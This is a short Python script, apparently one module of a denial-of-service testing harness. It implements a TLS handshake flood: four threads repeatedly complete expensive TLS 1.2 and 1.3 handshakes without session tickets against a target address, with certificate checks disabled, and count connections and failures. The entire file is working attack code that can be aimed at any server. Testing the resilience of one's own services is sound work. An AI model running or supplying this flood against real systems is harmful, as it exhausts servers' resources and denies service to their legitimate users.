#!/usr/bin/python3
"""TLS handshake flood: whole handshakes of the dearest kind (TLS 1.2 and 1.3 without a ticket), four at a time, each left as soon as it is done."""
import socket
import ssl
import threading

from attacker import main

MARK = ("tls.handshakes", "tls.steps")
ENDED = False
TLS = True


def one(run, context):
    """The number of bytes is not seen from here: each counts as one frame."""
    sock = socket.create_connection(run.address, timeout=30)
    try:
        tls = context.wrap_socket(sock, server_hostname="localhost", do_handshake_on_connect=False)
        tls.do_handshake()
        run.seen["frames"] += 1
        tls.close()
    except (ssl.SSLError, OSError):
        run.seen["ended"] += 1
        sock.close()


def flood(run, version):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    context.minimum_version = context.maximum_version = version
    while run.going():
        run.seen["connections"] += 1
        try:
            one(run, context)
        except OSError:
            pass


def attack(run):
    versions = (ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3) * 2
    threads = [threading.Thread(target=flood, args=(run, v)) for v in versions]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


if __name__ == "__main__":
    main(attack)
